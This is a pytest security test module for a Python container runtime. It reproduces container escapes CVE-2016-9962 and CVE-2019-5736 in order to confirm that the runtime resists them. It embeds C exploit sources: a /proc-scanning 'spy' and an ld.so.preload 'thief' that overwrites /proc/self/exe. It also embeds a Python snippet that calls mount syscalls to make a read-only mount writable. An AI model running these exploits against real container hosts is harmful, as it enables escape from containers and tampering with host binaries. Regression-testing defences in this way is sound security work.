"""The runtime itself is what the attacker is after: its memory, its descriptors, its program."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

import libpycontainer as lc
from libpycontainer import interpreter
from tests.privileged.support import (
    FOREVER,
    TIMEOUT,
    add_user_namespace,
    create,
    exec_inside,
    read_inside,
)
from tests.security.support import EVERY_SET

if TYPE_CHECKING:
    from tests.conftest import Bundle, BundleMaker

attack = pytest.mark.attack

SPY = r"""
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void look(int pid)
{
    static const char *const names[] = {"fd", "map_files"};
    char path[600], target[600];
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
        DIR *directory = opendir(path);
        for (struct dirent *entry; directory && (entry = readdir(directory));) {
            snprintf(path, sizeof path, "/proc/%d/%s/%s", pid, names[i], entry->d_name);
            long size = readlink(path, target, sizeof target - 1);
            if (size > 0)
                printf("%s %.*s\n", names[i], (int)size, target);
        }
        if (directory)
            closedir(directory);
    }
    /* The kernel asks the same as for tracing, and nobody is held up. */
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_RDWR);
    if (memory >= 0) {
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        long size = readlink(path, target, sizeof target - 1);
        if (size > 0)
            printf("memory %.*s\n", (int)size, target);
        close(memory);
    }
}

int main(void)
{
    long seen = 0;
    int me = getpid();
    puts("watching");
    fflush(stdout);
    while (access("/dev/shm/stop", F_OK) < 0) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            if (pid > 1 && pid != me) {
                seen++;
                look(pid);
            }
        }
        closedir(proc);
    }
    printf("seen %ld\n", seen);
    return 0;
}
"""
"""Looks into every process that turns up. What it finds of a program that already runs is that
program's; of one that still is the runtime's it would be sockets, or the interpreter."""


@pytest.fixture(scope="session")
def programs(workspace: Path) -> Path:
    """A directory with the attackers' own programs: ``spy``, ``thief`` and ``thief.so``."""
    compiler = shutil.which("cc")
    if compiler is None:
        pytest.skip("cc is not installed")
    place = workspace / "programs"
    place.mkdir()
    for name, text in (("spy", SPY), ("thief", THIEF)):
        (place / f"{name}.c").write_text(text)
        command = [compiler, "-w", "-static", f"{name}.c", "-o", name]
        subprocess.run(command, cwd=place, check=True)
    library = [compiler, "-w", "-DLIBRARY", "-shared", "-fPIC", "thief.c", "-o", "thief.so"]
    subprocess.run(library, cwd=place, check=True)
    return place


@attack("CVE-2016-9962", "gets at the descriptors of a process that is joining")
@pytest.mark.parametrize("user_namespace", [False, True])
def test_cve_2016_9962_joining_process_is_watched(
    factory: lc.Factory, bundle: BundleMaker, programs: Path, user_namespace: bool
) -> None:
    one = bundle(["/spy"], private_rootfs=True)
    shutil.copy(programs / "spy", one.rootfs / "spy")
    if user_namespace:
        # There root may trace whatever is the namespace's own; a runtime that is must not be.
        add_user_namespace(one.config)
        sets = one.process["capabilities"]
        sets.update({name: ["CAP_SYS_PTRACE"] for name in EVERY_SET[:3]})
    with create(factory, one, stdout=lc.PIPE) as container:
        container.start()
        spy = container.process
        assert spy is not None
        assert spy.stdout is not None
        assert spy.stdout.readline() == b"watching\n"
        for _ in range(15):
            exec_inside(container, ["true"])
        # It must be able to see something: what is a program of the container's already.
        exec_inside(container, ["sleep", "0.05"])
        exec_inside(container, ["touch", "/dev/shm/stop"])
        output, _ = spy.communicate(timeout=TIMEOUT)
    *found, count = (output or b"").decode().splitlines()
    assert int(count.removeprefix("seen ")) >= 5
    assert "memory /bin/busybox" in found
    for word in ("socket:", "python", "memfd:", "libpycontainer", "config.json", "memory /proc"):
        assert not [line for line in found if word in line]


THIEF = r"""
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#define TRY(path, flags)                                     \
    do {                                                     \
        int fd = open(path, flags);                          \
        if (fd >= 0 && (flags & O_TRUNC || write(fd, "#!stolen\n", 9) > 0)) {               \
            puts("opened " path);                            \
            fflush(stdout);                                  \
        }                                                    \
    } while (0)
#ifdef LIBRARY
__attribute__((constructor)) static void begin(void)
{
    int fd = open("/proc/self/exe", O_RDONLY);
    char name[64];
    TRY("/proc/self/exe", O_WRONLY);
    TRY("/proc/self/exe", O_RDWR | O_TRUNC);
    printf("library %d\n", fd);
    fflush(stdout);
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    execl("/thief", "thief", name, (char *)0);
    _exit(9);
}
#else
int main(int argc, char **argv)
{
    for (int turn = 0; turn < 300; turn++) {
        int truncate = turn % 2 ? O_TRUNC : 0;
        int fd = open(argv[1], O_WRONLY | truncate);
        if (fd >= 0 && (truncate || write(fd, "#!stolen\n", 9) > 0)) {
            puts("opened for writing");
            return 1;
        }
        usleep(1000);
    }
    puts("gave up");
    return 0;
}
#endif
"""
"""The published exploit's two halves: a library takes hold of the program that it was loaded into,
and a second program, by which the first is no longer being executed, writes to it. A sealed file in
memory can be opened for writing, but neither written nor cut."""


def runs_python(one: Bundle, code: str) -> None:
    """Have the bundle run the host's Python, on the host's own files, read-only.

    Its own mounts on /dev stay: without them the host's /dev is what devices are made in.
    """
    one.config["root"] = {"path": "/", "readonly": True}
    one.process["args"] = [interpreter.find(), "-I", "-S", "-c", code]


def add_host_libraries(one: Bundle, programs: Path) -> None:
    """The root filesystem gets what the interpreter needs to be loaded, and the library."""
    listing = subprocess.run(
        ["ldd", interpreter.find()], capture_output=True, text=True, check=True
    ).stdout
    words = [word for word in listing.split() if word.startswith("/")]
    for path in {*words, "/lib64/ld-linux-x86-64.so.2"}:
        if os.path.exists(path):
            target = one.rootfs / path.lstrip("/")
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(path, target)
    shutil.copy(programs / "thief.so", one.rootfs / "thief.so")
    shutil.copy(programs / "thief", one.rootfs / "thief")
    (one.rootfs / "etc/ld.so.preload").write_text("/thief.so\n")


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A Python of the runtime's that nobody else runs: the kernel lets no one write to one that is
    being executed, which would hide whether the runtime protects it."""
    real = Path(interpreter.find())
    (tmp_path / "bin").mkdir()
    copy = tmp_path / "bin" / real.name
    shutil.copy(real, copy)
    (tmp_path / "pyvenv.cfg").write_text(f"home = {real.parent}\n")
    return copy


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@attack("CVE-2019-5736", "overwrites the runtime through /proc/self/exe")
@pytest.mark.parametrize("kind", ["path", "link", "script"])
@pytest.mark.parametrize("by_exec", [False, True])
def test_cve_2019_5736_interpreter_is_overwritten(
    state_root: str, bundle: BundleMaker, programs: Path, victim: Path, kind: str, by_exec: bool
) -> None:
    one = bundle(FOREVER, private_rootfs=True, edit=lambda c: c["root"].update(readonly=False))
    add_host_libraries(one, programs)
    (one.rootfs / "program").symlink_to("/proc/self/exe")
    (one.rootfs / "script").write_text("#!/proc/self/exe\n")
    (one.rootfs / "script").chmod(0o755)
    program = {"path": "/proc/self/exe", "link": "/program", "script": "/script"}[kind]
    before = digest(victim)
    with lc.Factory(root=state_root, interpreter=str(victim)) as factory:
        if by_exec:
            with create(factory, one) as container:
                container.start()
                text = exec_inside(container, [program, "-c", "0"]).text
        else:
            one.process["args"] = [program, "-c", "0"]
            text = read_inside(factory, one).text
    assert "library" in text
    assert "gave up" in text
    assert "opened" not in text
    assert digest(victim) == before


@attack("CVE-2019-5736", "overwrites the runtime through /proc/self/exe")
@pytest.mark.no_user_namespace("runs on the host's files")
def test_cve_2019_5736_read_only_mount_is_made_writable(
    state_root: str, bundle: BundleMaker, victim: Path
) -> None:
    # With CAP_SYS_ADMIN inside: by mount_setattr, by a remount, by a copy of the mount.
    code = """
import os, ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
path = "/proc/self/exe"
fd = os.open(path, os.O_PATH)
clear = struct.pack("QQQQ", 0, 1, 0, 0)
libc.syscall(442, fd, b"", 0x1000, clear, len(clear))
libc.mount(None, b"/proc/self/exe", None, 32 | 4096, None)
copy = libc.syscall(428, fd, b"", 0x1000 | 1)
if copy >= 0:
    libc.syscall(442, copy, b"", 0x1000, clear, len(clear))
pid = os.fork()
if pid == 0:
    os.execv("/bin/sleep", ["sleep", "0.2"])
os.waitpid(pid, 0)
for name in (path, f"/proc/self/fd/{fd}", f"/proc/self/fd/{copy}"):
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC):
        try:
            os.open(name, flags)
            print("opened", name)
        except OSError:
            pass
print("end")
"""
    one = bundle()
    runs_python(one, code)
    one.process["args"][0] = "/proc/self/exe"
    one.config["root"]["readonly"] = False
    every = [
        f"CAP_{name}" for name in ("SYS_ADMIN", "DAC_OVERRIDE", "SYS_PTRACE", "FOWNER", "CHOWN")
    ]
    one.process["capabilities"] = dict.fromkeys(EVERY_SET[:3], every)
    one.linux.update(maskedPaths=[], readonlyPaths=[])
    before = digest(victim)
    with lc.Factory(root=state_root, interpreter=str(victim)) as factory:
        result = read_inside(factory, one)
    assert "opened" not in result.text
    assert "end" in result.text
    assert digest(victim) == before
